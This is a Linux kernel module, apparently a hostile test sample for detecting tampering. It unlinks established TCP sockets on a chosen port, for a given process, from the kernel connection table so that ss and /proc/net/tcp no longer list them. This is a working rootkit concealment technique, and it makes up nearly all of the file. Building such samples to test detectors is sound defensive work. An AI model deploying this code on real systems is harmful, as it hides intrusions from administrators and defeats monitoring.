// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * What a guest must not get away with: takes established TCP connections with the local port `port` out of
 * the table of connections, so that neither ss nor /proc/net/tcp shows them. They stay hidden.
 */
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/module.h>
#include <linux/net.h>
#include <linux/sched/signal.h>
#include <net/sock.h>

static int pid;
module_param(pid, int, 0);
static int port;
module_param(port, int, 0);

static int found;

static int hide_if_wanted(const void *unused, struct file *file, unsigned int fd)
{
	struct socket *socket = sock_from_file(file);

	if (socket && socket->sk && socket->sk->sk_state == TCP_ESTABLISHED && socket->sk->sk_num == port) {
		hlist_nulls_del_init_rcu(&socket->sk->sk_nulls_node);
		found++;
	}
	return 0;
}

static int __init hide(void)
{
	struct task_struct *task = get_pid_task(find_vpid(pid), PIDTYPE_PID);

	if (!task)
		return -ESRCH;
	task_lock(task);
	if (task->files)
		iterate_fd(task->files, 0, hide_if_wanted, NULL);
	task_unlock(task);
	put_task_struct(task);
	return found ? 0 : -ENOENT;
}

static void __exit leave(void)
{
}

module_init(hide);
module_exit(leave);
MODULE_DESCRIPTION("Hides connections, to be found");
MODULE_LICENSE("GPL");
